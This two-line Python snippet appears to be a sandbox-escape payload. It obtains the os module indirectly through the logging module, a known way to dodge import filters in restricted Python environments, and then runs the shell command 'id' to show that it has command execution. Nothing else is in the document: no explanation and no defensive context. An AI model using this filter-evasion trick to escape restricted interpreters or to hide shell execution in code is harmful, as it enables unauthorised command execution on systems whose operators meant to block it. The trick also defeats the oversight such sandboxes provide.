from logging import os as o
o.system("id")
